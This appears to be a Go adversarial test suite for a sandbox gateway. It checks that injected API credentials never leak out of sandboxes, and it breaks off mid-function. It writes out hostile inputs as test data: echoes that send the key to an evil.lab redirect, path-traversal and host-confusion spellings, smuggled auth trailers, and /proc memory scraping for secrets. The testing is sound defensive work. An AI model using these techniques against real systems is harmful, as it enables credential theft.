package adversary

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"unicode/utf16"

	"github.com/klauspost/compress/zstd"

	"github.com/cove-sandbox/cove/test/adversary/lab"
	"github.com/cove-sandbox/cove/test/adversary/outcome"
)

// Credentials describes those that the rows use. Their values are in the environment of the gateway's process.
const Credentials = `
credentials:
  - name: key
    source: env:COVE_ROWS_KEY
    variables: LAB_TOKEN
    shape: lab_{32}
    to:
      - {form: bearer, hosts: [key.lab, second.lab], ports: 443, methods: [GET, POST], paths: /bound/**}
  - name: basic
    source: env:COVE_ROWS_BASIC
    variables: LAB_PASSWORD
    to:
      - {form: basic, user: somebody, hosts: basic.lab, ports: 443, paths: /bound/**}
  - name: header
    source: env:COVE_ROWS_HEADER
    variables: LAB_HEADER
    to:
      - {form: header, header: X-Lab-Key, hosts: header.lab, ports: 443, paths: /bound/**}
  - name: query
    source: env:COVE_ROWS_QUERY
    variables: LAB_QUERY
    to:
      - {form: query, parameter: key, hosts: query.lab, ports: 443, paths: /bound/**}
  - name: twin
    source: env:COVE_ROWS_TWIN
    variables: LAB_TWIN
    to:
      - {form: bearer, hosts: key.lab, ports: 443, methods: [GET, POST], paths: /bound/**}
`

// secretRows are attempts to get hold of a credential, or to have it sent where
// it is not meant for (S1 to S13, but for S11, which is said in the docs).
func secretRows() []row {
	return []row{
		{id: "S1.inside", engine: true, invariant: "C1",
			what: "find the value in a sandbox: files, environment, arguments, memory", test: valueInside},
		{id: "S2.reflected", invariant: "C4", what: "have the origin send the value back, in any form", test: reflected},
		{id: "S3.hops", invariant: "C2",
			what: "see by TRACE what the gateway adds, or send on what is meant for it", test: hops},
		{id: "S4.copies", invariant: "C2", what: "send a copy, a part or a place of one's own for the value", test: copies},
		{id: "S5.elsewhere", invariant: "C2", what: "have a redirect or a second address take the value elsewhere",
			test: elsewhere},
		{id: "S6.spellings", invariant: "C2", what: "get the value onto another path or host by an odd spelling",
			test: oddSpellings},
		{id: "S7.conflicts", invariant: "C3",
			what: "use two credentials of one place, or one without TLS, without interception, against policy", test: conflicts},
		{id: "S8.fronted", invariant: "C2", what: "have the value sent to an address of the sandbox's choice", test: fronted},
		{id: "S9.rotated", invariant: "C2", what: "have an old value used, or a mix, while it is changed and when it is gone",
			test: rotated},
		{id: "S12.presets", invariant: "C2", what: "list keys, files and batches with a preset's credential", test: presets},
		{id: "S13.foreign", invariant: "C1", what: "use another sandbox's placeholder", test: foreignPlaceholder},
		{id: "S10.commands", invariant: "C1", what: "have a command of Cove's, its log or the API's answers show the value",
			test: commands},
		{id: "S10.written", invariant: "C1",
			what: "find a value in anything that was written: the log at its most talkative, decisions, answers, files",
			test: nothingWritten},
	}
}

// secret gives a credential a value that is nowhere else.
func (c *trial) secret(variable string) string {
	value := "key-" + token()
	c.Setenv(variable, value)
	c.suite.secrets = append(c.suite.secrets, value)
	return value
}

// spellings are what encoders make of a value; those that the gateway knows.
func spellings(value string) map[string]string {
	var percent, wide, entity strings.Builder
	for _, r := range value {
		fmt.Fprintf(&percent, "%%%02X", r)
		fmt.Fprintf(&entity, "%c", r)
	}
	for _, u := range utf16.Encode([]rune(value)) {
		wide.Write(binary.LittleEndian.AppendUint16(nil, u))
	}
	return map[string]string{
		"raw": value, "hex": hex.EncodeToString([]byte(value)), "HEX": strings.ToUpper(hex.EncodeToString([]byte(value))),
		"base64":           base64.StdEncoding.EncodeToString([]byte(value)),
		"base64 of a pair": base64.StdEncoding.EncodeToString([]byte("somebody:" + value)),
		"base64 for URLs":  base64.RawURLEncoding.EncodeToString([]byte("x" + value)),
		"percent":          percent.String(), "query": url.QueryEscape(value), "UTF-16": wide.String(),
	}
}

// inner is the part of a spelling that the value alone decides.
func inner(how, s string) string {
	if strings.HasPrefix(how, "base64") {
		return s[14 : len(s)-4]
	}
	return s
}

// betrays names the spelling of a value that some text has, reversed too where nothing is masked.
func betrays(text, value string) string {
	for how, s := range spellings(value) {
		if strings.Contains(text, inner(how, s)) {
			return how
		}
	}
	return ""
}

// bound is a request to where a credential belongs, by each entry.
func bound(host string) []entry { return entries("https", host, 443) }

// withKey are sandboxes with the credential "key", under a policy for its host.
const withKey = "rules:\n  - hosts: [key.lab, allowed.lab, second.lab, also.lab]\n    ports: [80, 443, 8443]\n"

func valueInside(c *trial) {
	value := c.secret("COVE_ROWS_KEY")
	b := c.outward(withKey, "key")
	placeholder := b.way.Env()["LAB_TOKEN"]
	c.internet().Forget()
	for _, e := range bound("key.lab") {
		if a := b.get(e, "key.lab", "/bound/x"); !a.ok() {
			c.Errorf("not tested: %s: %s", e.name, a)
		}
	}
	for _, r := range c.internet().Requests() {
		if got := r.Header.Get("Authorization"); got != "Bearer "+value {
			c.Errorf("not tested: the origin got %q", got)
		}
	}
	if env := c.works(b.box, "env"); !slices.Contains(env.Lines, "LAB_TOKEN="+placeholder) ||
		betrays(strings.Join(env.Lines, "\n"), value) != "" {
		c.Errorf("HOLE or not tested: the environment is %v", env.Lines)
	}
	held := c.occupy(b.box)
	found := 0
	for _, pid := range neighboursOf(held.user) {
		text := everythingOf(pid)
		if how := betrays(text, value); how != "" {
			c.Errorf("HOLE: the value is in process %d of the sandbox, %s", pid, how)
		}
		if strings.Contains(text, placeholder) {
			found++
		}
	}
	if found == 0 {
		c.Error("not tested: not even the placeholder is found in the sandbox's processes")
	}
	needles := make([]string, 0, 8)
	for how, s := range spellings(value) {
		if strings.EqualFold(how, "hex") { // in which needles are given
			continue
		}
		needles = append(needles, hex.EncodeToString([]byte(s)))
	}
	if r := b.run(c, spec("search "+strings.Join(needles, " "))).result; r.Outcome != outcome.Refused {
		c.Errorf("HOLE or not tested: the search ended with %s: %v", say(r), r.Lines)
	}
	if limit, err := os.ReadFile(fmt.Sprintf("/proc/%d/limits", held.user.pid)); err != nil || !coresOff(string(limit)) {
		c.Errorf("core dumps are on: %v\n%s", err, limit)
	}
}

func coresOff(limits string) bool {
	for line := range strings.Lines(limits) {
		if strings.HasPrefix(line, "Max core file size") {
			f := strings.Fields(strings.TrimPrefix(line, "Max core file size"))
			return len(f[1]) == 1 && f[1] <= "1" // 1 is none, and none for a program that takes them either
		}
	}
	return false
}

// neighboursOf are the host's ids of all processes in a process's pid namespace.
func neighboursOf(p hostProcess) (pids []int) {
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range dirs {
		pid, err := strconv.Atoi(filepath.Base(dir))
		if err != nil {
			continue
		}
		if ns, _ := os.Readlink(dir + "/ns/pid"); ns == p.namespace("pid") {
			pids = append(pids, pid)
		}
	}
	return pids
}

// everythingOf is what the kernel shows of a process: environment, arguments and all of its memory.
func everythingOf(pid int) string {
	var all bytes.Buffer
	dir := fmt.Sprintf("/proc/%d/", pid)
	for _, name := range []string{"environ", "cmdline"} {
		data, _ := os.ReadFile(dir + name)
		all.Write(data)
	}
	maps, _ := os.ReadFile(dir + "maps")
	mem, err := os.Open(dir + "mem")
	if err != nil {
		return all.String()
	}
	defer mem.Close()
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		var mode string
		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); n == 3 && strings.HasPrefix(mode, "rw") &&
			to-from < 128<<20 {
			io.Copy(&all, io.NewSectionReader(mem, from, to-from))
		}
	}
	return all.String()
}

// echoes are forms in which an origin sends back what it was sent.
var echoes = map[string]func(w http.ResponseWriter, value string){
	"body":        func(w http.ResponseWriter, v string) { io.WriteString(w, v) },
	"header":      func(w http.ResponseWriter, v string) { w.Header().Set("X-Echo", "a "+v+" b") },
	"header name": func(w http.ResponseWriter, v string) { w.Header().Set("X-"+v, "a") },
	"cookie":      func(w http.ResponseWriter, v string) { w.Header().Set("Set-Cookie", "k="+v+"; Path=/") },
	"location": func(w http.ResponseWriter, v string) {
		w.Header().Set("Location", "https://evil.lab/?k="+v)
		w.WriteHeader(302)
	},
	"not found": func(w http.ResponseWriter, v string) { http.Error(w, "no such key: "+v, 404) },
	"error":     func(w http.ResponseWriter, v string) { http.Error(w, "bad key: "+v, 500) },
	"unauthorized": func(w http.ResponseWriter, v string) {
		w.Header().Set("Www-Authenticate", `Bearer error="`+v+`"`)
		w.WriteHeader(401)
	},
	"trailer": func(w http.ResponseWriter, v string) {
		io.WriteString(w, "x")
		w.Header().Set(http.TrailerPrefix+"X-Echo", v)
	},
	"pieces": func(w http.ResponseWriter, v string) { inPieces(w, v, 7) },
	"events": func(w http.ResponseWriter, v string) {
		w.Header().Set("Content-Type", "text/event-stream")
		inPieces(w, "data: "+v+"\n\n", 1)
	},
	"gzip": func(w http.ResponseWriter, v string) {
		w.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(w)
		io.WriteString(z, v)
		z.Close()
	},
	"gzip twice": func(w http.ResponseWriter, v string) {
		w.Header().Set("Content-Encoding", "gzip, gzip")
		o := gzip.NewWriter(w)
		z := gzip.NewWriter(o)
		io.WriteString(z, v)
		z.Close()
		o.Close()
	},
	"deflate": func(w http.ResponseWriter, v string) {
		w.Header().Set("Content-Encoding", "deflate")
		z := zlib.NewWriter(w)
		io.WriteString(z, v)
		z.Close()
	},
	"raw deflate": func(w http.ResponseWriter, v string) {
		w.Header().Set("Content-Encoding", "deflate")
		z, _ := flate.NewWriter(w, 9)
		io.WriteString(z, v)
		z.Close()
	},
	"zstd": func(w http.ResponseWriter, v string) {
		w.Header().Set("Content-Encoding", "zstd")
		z, _ := zstd.NewWriter(w)
		io.WriteString(z, v)
		z.Close()
	},
	"unknown": func(w http.ResponseWriter, v string) { w.Header().Set("Content-Encoding", "br"); io.WriteString(w, v) },
	"gRPC":    func(w http.ResponseWriter, v string) { w.Header().Set("Grpc-Encoding", "gzip"); io.WriteString(w, v) },
	"part": func(w http.ResponseWriter, v string) {
		w.Header().Set("Content-Range", "bytes 0-9/100")
		w.WriteHeader(206)
		io.WriteString(w, v)
	},
	"JSON": func(w http.ResponseWriter, v string) {
		json.NewEncoder(w).Encode(map[string]string{"headers": v, "pair": "somebody:" + v})
	},
	"early": func(w http.ResponseWriter, v string) {
		w.Header().Set("Link", "<https://evil.lab/"+v+">; rel=preload")
		w.WriteHeader(103)
		w.WriteHeader(200)
	},
	"among padding": func(w http.ResponseWriter, v string) {
		io.WriteString(w, strings.Repeat("a", 16<<10-5)+v+strings.Repeat("b", 100))
	},
}

func inPieces(w http.ResponseWriter, text string, size int) {
	for len(text) > 0 {
		n := min(size, len(text))
		io.WriteString(w, text[:n])
		http.NewResponseController(w).Flush()
		text = text[n:]
	}
}

func reflected(c *trial) {
	value := c.secret("COVE_ROWS_KEY")
	b := c.outward(withKey, "key")
	var arrived atomic.Int64
	c.internet().Page("/bound/echo", func(w http.ResponseWriter, r *http.Request) {
		v, _ := strings.CutPrefix(r.Header.Get("Authorization"), "Bearer ")
		if v == value {
			arrived.Add(1)
		}
		how, _ := url.QueryUnescape(r.URL.RawQuery)
		if echo := echoes[how]; echo != nil {
			echo(w, v)
			return
		}
		io.WriteString(w, "it is "+spellings(v)[how]+" here")
	})
	asked := 0
	ways := bound("key.lab")
	ask := func(how string) {
		for _, e := range ways {
			asked++
			a := b.get(e, "key.lab", "/bound/echo?"+url.QueryEscape(how), "Accept-Encoding: br, gzip, zstd", "Range: bytes=0-9")
			if got := betrays(a.text, value); got != "" || a.Outcome != outcome.Succeeded || a.Count == 0 {
				c.Errorf("HOLE or not tested: %s, echoed as %s, comes as %q: %s", e.name, how, got, a)
			}
		}
	}
	for how := range echoes {
		ask(how)
	}
	for how := range spellings(value) {
		ask(how)
	}
	if int(arrived.Load()) != asked {
		c.Errorf("not tested: the value arrived %d times of %d", arrived.Load(), asked)
	}
	for _, r := range c.internet().Requests() {
		if r.Header.Get("Range") != "" || strings.Contains(r.Header.Get("Accept-Encoding"), "br") {
			c.Errorf("the origin was asked for what could not be searched: %v", r.Header)
		}
	}
	// And the same answers from where the value does not belong are as they are.
	c.internet().Page("/free/echo", func(w http.ResponseWriter,
		r *http.Request) {
		io.WriteString(w, "it is "+r.URL.RawQuery)
	})
	for _, e := range ways {
		if a := b.get(e, "key.lab", "/free/echo?nothing"); !strings.Contains(a.text, "it is nothing") {
			c.Errorf("not tested: %s: %s", e.name, a)
		}
	}
	c.remark("not found are values that an origin reverses, encrypts or archives; a host that does so is no place for a " +
		"credential")
}

// hops: what is for the next hop goes no further, and nothing is added that tells of the inside.
func hops(c *trial) {
	value := c.secret("COVE_ROWS_KEY")
	b := c.outward(withKey, "key")
	c.internet().Forget()
	for _, e := range everyEntry("key.lab") {
		for _, method := range []string{"TRACE", "TRACK"} {
			a := b.say(e, e.request(method, "key.lab", "/bound/x", "Max-Forwards: 0"))
			b.stays(method+" "+e.name, a)
			if betrays(a.text, value) != "" {
				c.Errorf("HOLE: %s, %s: %s", method, e.name, a)
			}
		}
	}
	b.quiet("key.lab")
	for _, e := range everyEntry("key.lab") {
		c.internet().Forget()
		a := b.get(e, "key.lab", "/bound/x", "Proxy-Authorization: Basic c2VjcmV0", "Proxy-Connection: keep-alive",
			"Keep-Alive: 5", "TE: deflate", "Connection: X-One, close", "X-One: 1",
			"Http2-Settings: AAAA", "Upgrade: h2c", "X-Two: 2")
		seen := c.internet().Requests()
		if !a.ok() || len(seen) != 1 {
			c.Errorf("not tested: %s: %s", e.name, a)
			continue
		}
		for name := range seen[0].Header {
			if !slices.Contains([]string{"X-Two", "Authorization", "Accept-Encoding"}, name) {
				c.Errorf("HOLE: %s: the origin got %s: %q", e.name, name, seen[0].Header[name])
			}
		}
	}
}

func copies(c *trial) {
	value := c.secret("COVE_ROWS_KEY")
	b := c.outward(withKey, "key")
	placeholder := b.way.Env()["LAB_TOKEN"]
	for _, e := range bound("key.lab") {
		for _, header := range [][]string{
			nil, {"Authorization: Bearer " + placeholder}, {"authorization: Bearer mine"},
			{"AUTHORIZATION: mine", "Authorization: Bearer mine"}, {"Authorization: Bearer mine, Bearer " + placeholder},
			{"Authorization:"}, {"Authorization: Basic bWluZTptaW5l"}, {"X-Api-Key: mine"}, {"X_Api_Key: mine", "Api-Key: mine"},
			{"Proxy-Authorization: Bearer mine"}, {"Private-Token: mine"},
			{"Connection: Authorization"}, {"Connection: close, authorization", "Authorization: Bearer mine"},
		} {
			c.internet().Forget()
			a := b.get(e, "key.lab", "/bound/x?access_token=mine&api_key=mine&q=1", header...)
			seen := c.internet().Requests()
			if !a.ok() || len(seen) != 1 {
				c.Errorf("not tested: %s, %v: %s", e.name, header, a)
				continue
			}
			all := fmt.Sprint(seen[0].Header, seen[0].Target)
			if got := seen[0].Header["Authorization"]; !slices.Equal(got, []string{"Bearer " + value}) ||
				strings.Contains(all, "mine") || strings.Contains(all, placeholder) {
				c.Errorf("HOLE: %s, %v: the origin got %s", e.name, header, all)
			}
		}
		c.internet().Forget()
		b.say(e, e.request("POST", "key.lab", "/bound/x", "Transfer-Encoding: chunked",
			"Trailer: Authorization")+"1\r\na\r\n0\r\nAuthorization: Bearer mine\r\nX-Api-Key: mine\r\n\r\n")
		for _, r := range c.internet().Requests() {
			if len(r.Trailer.Values("Authorization"))+len(r.Trailer.Values("X-Api-Key")) > 0 {
				c.Errorf("HOLE: %s: trailers are %v", e.name, r.Trailer)
			}
		}
	}
	// A placeholder is no key: wherever it is sent, it stays what it is.
	for _, e := range everyEntry("allowed.lab") {
		c.internet().Forget()
		b.get(e, "allowed.lab", "/bound/"+placeholder+"?k="+placeholder, "Authorization: Bearer "+placeholder,
			"X-Other: "+placeholder)
		seen := c.internet().Requests()
		if len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+placeholder ||
			betrays(fmt.Sprint(seen[0]), value) != "" {
			c.Errorf("HOLE or not tested: %s: another host got %v", e.name, seen)
		}
	}
	for name, one := range map[string][2]string{"basic": {"basic.lab", "COVE_ROWS_BASIC"},
		"header": {"header.lab", "COVE_ROWS_HEADER"}, "query": {"query.lab", "COVE_ROWS_QUERY"}} {
		v := c.secret(one[1])
		own := c.outward(allow(one[0]), name)
		want := map[string]string{"basic": "Basic " + base64.StdEncoding.EncodeToString([]byte("somebody:"+v)), "header": v,
			"query": "key=" + v}[name]
		for _, e := range bound(one[0]) {
			c.internet().Forget()
			own.get(e, one[0], "/bound/x?key=mine&KEY=mine&key[]=mine", "Authorization: Bearer mine", "X-Lab-Key: mine",
				"x_lab_key: mine")
			seen := c.internet().Requests()
			all := ""
			for _, r := range seen {
				all += fmt.Sprint(r.Target, " ", r.Header)
			}
			if len(seen) != 1 || strings.Count(all, want) != 1 || name == "basic" && len(seen[0].Header["Authorization"]) != 1 ||
				name == "header" && strings.Contains(fmt.Sprint(seen[0].Header), "mine") ||
				name == "query" && strings.Contains(seen[0].Target, "mine") {
				c.Errorf("HOLE or not tested: %s by %s: the origin got %s", name, e.name, all)
			}
		}
	}
}

func elsewhere(c *trial) {
	value := c.secret("COVE_ROWS_KEY")
	b := c.outward(withKey, "key")
	for _, code := range []int{301, 302, 303, 307, 308} {
		c.internet().Page("/bound/redirect", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", "https://"+r.URL.RawQuery)
			w.WriteHeader(code)
		})
		for _, to := range []string{"allowed.lab/bound/x", "key.lab:8443/bound/x", "key.lab/free/x", "also.lab/bound/x",
			"evil.lab/bound/x"} {
			for _, e := range bound("key.lab") {
				c.internet().Forget()
				if a := b.get(e, "key.lab", "/bound/redirect?"+to); a.Count != int64(code) || len(c.internet().Requests()) != 1 {
					c.Errorf("HOLE or not tested: %s: %s, %v", e.name, a, c.internet().Requests())
				}
			}
		}
	}
	// The next hop, as a client makes it: with the placeholder that it has.
	placeholder := b.way.Env()["LAB_TOKEN"]
	for _, next := range []struct {
		scheme, host string
		port         int
		path         string
	}{{"https", "allowed.lab", 443, "/bound/x"}, {"https", "key.lab", 8443, "/bound/x"},
		{"https", "key.lab", 443, "/free/x"}, {"https", "also.lab", 443, "/bound/x"}, {"http", "key.lab", 80, "/bound/x"},
		{"http", "key.lab", 443, "/bound/x"}, {"https", "evil.lab", 443, "/bound/x"}} {
		for _, e := range entries(next.scheme, next.host, next.port) {
			c.internet().Forget()
			b.get(e, next.host+":"+strconv.Itoa(next.port), next.path, "Authorization: Bearer "+placeholder)
			for _, r := range c.internet().Requests() {
				if betrays(fmt.Sprint(r), value) != "" {
					c.Errorf("HOLE: %s: the value is in a request to %s at %s", e.name, r, r.At)
				}
			}
			for _, p := range c.internet().Packets() {
				if a := p.To.Addr(); a == lab.Evil4 || a == lab.Evil6 {
					c.Errorf("HOLE: %s: a packet to %s", e.name, p.To)
				}
			}
		}
	}
	for _, e := range bound("second.lab") { // whose first address does not answer
		c.internet().Forget()
		if a := b.get(e, "second.lab", "/bound/x"); !a.ok() {
			c.Errorf("not tested: %s: %s", e.name, a)
		}
		if seen := c.internet().Requests(); len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+value ||
			seen[0].Name != "second.lab" {
			c.Errorf("HOLE or not tested: %s: %v", e.name, seen)
		}
	}
}

func oddSpellings(c *trial) {
	value := c.secret("COVE_ROWS_KEY")
	b := c.outward(withKey, "key")
	given, withheld := 0, 0
	for _, e := range bound("key.lab") {
		for _, host := range []string{"key.lab", "KEY.lab", "key.lab.", "key.lab:443", "Key.Lab.:443", "user@key.lab",
			"key.lab:8443", "key.lab:0443", "key.lab@evil.lab", "xn--key.lab", "key。lab"} {
			for _, path := range []string{"/bound/x", "/bound/../free/x", "/bound/%2e%2e/free/x", "/bound/..%2ffree/x",
				"/bound/%2e%2e%2ffree/x", "/bound/%252e%252e/free/x", "/free/../bound/x", "//bound/x", "/bound//x",
				"/./bound/x", "/%62ound/x", "/bound/x;/../../free", "/bound\\..\\free", "/Bound/x", "/boundx", "/bound%2fx",
				"/bound/..;/free/x", "/bound/%5c../free", "/free/x", "/"} {
				c.internet().Forget()
				a := b.say(e, e.keep("GET", path, host, "Connection: close"))
				for _, r := range c.internet().Requests() {
					has := betrays(fmt.Sprint(r.Header, r.Target), value) != ""
					meant := strings.HasPrefix(r.Target, "/bound/") && !strings.Contains(r.Target, "..") &&
						!strings.Contains(strings.ToLower(r.Target), "%2e") && r.Host == "key.lab"
					if has && !meant {
						c.Errorf("HOLE: %s: %s, %s: the value is on %s", e.name, host, path, r)
					}
					if has {
						given++
					} else {
						withheld++
					}
				}
				if betrays(a.text, value) != "" {
					c.Errorf("HOLE: %s: %s, %s: %s", e.name, host, path, a)
				}
			}
		}
	}
	if given == 0 || withheld == 0 {
		c.Errorf("not tested: on %d requests there was the value, on %d not", given, withheld)
	}
}

func conflicts(c *trial) {
	key, twin := c.secret("COVE_ROWS_KEY"), c.secret("COVE_ROWS_TWIN")
	both := c.outward(withKey, "key", "twin")
	c.internet().Forget()
	for _, e := range bound("key.lab") {
		both.stays("two credentials by "+e.name, both.get(e, "key.lab", "/bound/x"))
	}
	both.quiet("key.lab")
	if b, err := c.tryOutward("rules:\n  - {hosts: key.lab, ports: 443, pass_through: true}\n", "key"); err == nil {
		c.Error("HOLE: a policy that passes TLS through is taken with a credential for it")
		b.way.Close()
	}
	denied := c.outward(
		"rules:\n  - hosts: [key.lab, allowed.lab]\n  - {hosts: key.lab, paths: /bound/**, action: deny}\n", "key")
	c.internet().Forget()
	for _, e := range bound("key.lab") {
		denied.stays("a host that policy denies by "+e.name, denied.get(e, "key.lab", "/bound/x"))
	}
	denied.quiet("key.lab")
	plain := c.outward(withKey, "key")
	for _, e := range entries("http", "key.lab", 80) {
		c.internet().Forget()
		plain.get(e, "key.lab", "/bound/x")
		if seen := c.internet().Requests(); len(seen) != 1 || seen[0].Header.Get("Authorization") != "" {
			c.Errorf("HOLE or not tested: without TLS by %s: %v", e.name, seen)
		}
	}
	if b, err := c.tryOutward(withKey, "nobody"); err == nil {
		c.Error("a credential that is not described is given")
		b.way.Close()
	}
	for _, d := range both.decisions() {
		if text := fmt.Sprintf("%+v", d); betrays(text, key) != "" || betrays(text, twin) != "" {
			c.Errorf("HOLE: %s", text)
		}
	}
}

func fronted(c *trial) {
	value := c.secret("COVE_ROWS_KEY")
	b := c.outward(withKey, "key")
	for _, at := range []string{lab.Evil4.String() + ":443", "[" + lab.Evil6.String() + "]:443", "10.9.9.9:443",
		"169.254.169.254:443", "203.0.113.5:443"} {
		c.internet().Forget()
		a := b.talk(outcome.Talk{By: outcome.Direct, At: at, TLS: true, Name: "key.lab",
			Send: "GET /bound/x HTTP/1.1\r\nHost: key.lab\r\nConnection: close\r\n\r\n"})
		seen := c.internet().Requests()
		if !a.ok() || len(seen) != 1 || seen[0].At.Addr() != lab.Web4 && seen[0].At.Addr() != lab.Web6 ||
			seen[0].Header.Get("Authorization") != "Bearer "+value {
			c.Errorf("HOLE or not tested: key.lab at %s: %s, %v", at, a, seen)
		}
	}
	c.internet().Forget()
	for _, e := range everyEntry("evil.lab") { // the credential's host over a connection to another
		b.get(e, "key.lab", "/bound/x")
		for _, r := range c.internet().Requests() { // what leads to key.lab itself may
			if r.Host != "key.lab" || r.At.Addr() == lab.Evil4 || r.At.Addr() == lab.Evil6 {
				c.Errorf("HOLE: %s: %s got %v", e.name, r.At, r)
			}
		}
	}
}

func rotated(c *trial) {
	old := c.secret("COVE_ROWS_KEY")
	b := c.outward(withKey, "key")
	const crew = 50
	waiting, release := make(chan struct{}, crew), make(chan struct{})
	c.internet().Page("/bound/wait", func(w http.ResponseWriter, r *http.Request) {
		waiting <- struct{}{}
		<-release
		io.WriteString(w, "you have "+r.Header.Get("Authorization")) // of which the gateway must still know
	})
	t := outcome.Talk{By: outcome.Direct, To: "key.lab:443", TLS: true, Name: "key.lab",
		Send: outcome.Quoted("GET /bound/wait HTTP/1.1\r\nHost: key.lab\r\nConnection: close\r\n\r\n")}
	c.internet().Forget()
	p := b.start(c, spec(fmt.Sprintf("crew %d %s", crew, strings.TrimPrefix(t.Line(), "talk "))))
	if p == nil {
		c.FailNow()
	}
	for range crew {
		select {
		case <-waiting:
		case <-p.Exited():
			c.Fatalf("not tested: %+v", p.wait(patience))
		}
	}
	fresh := c.secret("COVE_ROWS_KEY") // it is changed now
	for _, e := range bound("key.lab") {
		b.get(e, "key.lab", "/bound/after")
	}
	close(release)
	r := p.wait(patience)
	if r.result.Count != crew {
		c.Errorf("not tested: %d of %d were answered: %s", r.result.Count, crew, say(r.result))
	}
	if how := betrays(r.stdout, old); how != "" || betrays(r.stdout, fresh) != "" {
		c.Errorf("HOLE: a value came back, %s", how)
	}
	for _, request := range c.internet().Requests() {
		want := "Bearer " + old
		if strings.HasPrefix(request.Target, "/bound/after") {
			want = "Bearer " + fresh
		}
		if got := request.Header["Authorization"]; !slices.Equal(got, []string{want}) {
			c.Errorf("HOLE: %s has %q", request, got)
		}
	}
	os.Unsetenv("COVE_ROWS_KEY") // until the row is over
	c.internet().Forget()
	for _, e := range bound("key.lab") {
		b.stays("without a value by "+e.name, b.get(e, "key.lab", "/bound/x"))
	}
	b.quiet("key.lab")
	last := c.secret("COVE_ROWS_KEY")
	c.internet().Forget()
	b.get(bound("key.lab")[0], "key.lab", "/bound/x")
	if seen := c.internet().Requests(); len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+last {
		c.Errorf("not tested: with a value again: %v", seen)
	}
}

func presets(c *trial) {
	for _, one := range []struct {
		name, host, variable string
		meant                [2]string
		closed               []string
	}{
		{"anthropic", "api.anthropic.com", "ANTHROPIC_API_KEY", [2]string{"POST", "/v1/messages"},
			[]string{"GET /v1/files", "POST /v1/files", "GET /v1/files/f/content", "GET /v1/organizations/api_keys",
				"POST /v1/organizations/invites", "GET /v1/organizations/me", "POST /v1/messages/batches",
				"GET /v1/messages/batches", "GET /v1/messages/batches/b/results", "POST /v1/skills", "DELETE /v1/models/m",
				"POST /v1/environments", "GET /v1/messages", "POST /v1/complete"}},
		{"openai", "api.openai.com", "OPENAI_API_KEY", [2]string{"POST", "/v1/responses"},
			[]string{"GET /v1/files", "POST /v1/files", "GET /v1/files/f/content", "POST /v1/batches", "GET /v1/batches",
				"GET /v1/organization/admin_api_keys", "POST /v1/organization/projects", "GET /v1/organization/usage/completions",
				"POST /v1/fine_tuning/jobs", "GET /v1/fine_tuning/jobs", "POST /v1/uploads",
				"GET /v1/vector_stores", "POST /v1/assistants", "GET /v1/threads/t/messages", "POST /v1/evals",
				"DELETE /v1/models/m", "DELETE /v1/responses/r", "GET /v1/chat/completions", "POST /v1/realtime/client_secrets",
				"POST /v1/containers", "GET /v1/webhooks"}},
		{"openrouter", "openrouter.ai", "OPENROUTER_API_KEY", [2]string{"POST", "/api/v1/chat/completions"},
			[]string{"GET /api/v1/key", "GET /api/v1/keys", "POST /api/v1/keys", "GET /api/v1/credits",
				"POST /api/v1/auth/keys", "GET /api/v1/generation", "GET /api/v1/activity"}},
	} {
		value := c.secret(one.variable)
		c.internet().Lead(one.host)
		narrow, wide := c.outward("presets: ["+one.name+"]\n", one.name), c.outward(allow(one.host), one.name)
		for _, e := range bound(one.host) {
			for _, line := range one.closed {
				method, path, _ := strings.Cut(line, " ")
				c.internet().Forget()
				narrow.stays(one.name+": "+line+" by "+e.name, narrow.say(e, e.request(method, one.host, path)))
				narrow.quiet(one.host)
				wide.say(e, e.request(method, one.host, path)) // where policy allows it, the key is not set
				for _, r := range c.internet().Requests() {
					if betrays(fmt.Sprint(r.Header, r.Target), value) != "" {
						c.Errorf("HOLE: %s: the key is set on %s", one.name, r)
					}
				}
			}
			c.internet().Forget()
			narrow.say(e, e.request(one.meant[0], one.host, one.meant[1], "Content-Length: 2",
				"Content-Type: application/json")+"{}")
			if seen := c.internet().Requests(); len(seen) != 1 || betrays(fmt.Sprint(seen[0].Header), value) == "" {
				c.Errorf("not tested: %s by %s: %v", one.name, e.name, seen)
			}
		}
	}
}

func foreignPlaceholder(c *trial) {
	value := c.secret("COVE_ROWS_KEY")
	owner, other := c.outward(withKey, "key"), c.outward(withKey)
	placeholder := owner.way.Env()["LAB_TOKEN"]
	if other.way.Env()["LAB_TOKEN"] != "" || placeholder == "" {
		c.Errorf("not tested: placeholders are %q and %q", placeholder, other.way.Env()["LAB_TOKEN"])
	}
	for _, e := range bound("key.lab") {
		c.internet().Forget()
		other.get(e, "key.lab", "/bound/x", "Authorization: Bearer "+placeholder, "Proxy-Authorization: Bearer "+placeholder)
		seen := c.internet().Requests()
		if len(seen) != 1 || betrays(fmt.Sprint(seen[0].Header, seen[0].Target), value) != "" ||
			seen[0].Header.Get("Authorization") != "Bearer "+placeholder {
			c.Errorf("HOLE or not tested: %s: %v", e.name, seen)
		}
		c.internet().Forget()
		owner.get(e, "key.lab", "/bound/x", "Authorization: Bearer "+placeholder)
		if seen := c.internet().Requests(); len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+value {
			c.Errorf("not tested: %s, its owner: %v", e.name, seen)
		}
	}
	second := c.outward(withKey, "key")
	if second.way.Env()["LAB_TOKEN"] == placeholder {
		c.Error("two sandboxes have one placeholder")
	}
}

// commands uses a credential as a user does, with a log at its most talkative, and reads back whatever can be read.
func commands(c *trial) {
	value := "key-" + token()
	c.suite.secrets = append(c.suite.secrets, value)
	said := 0
	cove := func(args ...string) string {
		cmd := c.suite.online.Command(c, args...)
		cmd.Env = append(cmd.Env, "LAB_KEY="+value, "COVE_LOG_LEVEL=debug", "COVE_LOG_FORMAT=json")
		out, _ := cmd.CombinedOutput()
		if how := betrays(string(out), value); how != "" {
			c.Errorf("HOLE: cove %s shows the value, %s", args[0], how)
		}
		said += len(out)
		return string(out)
	}
	c.internet().Forget()
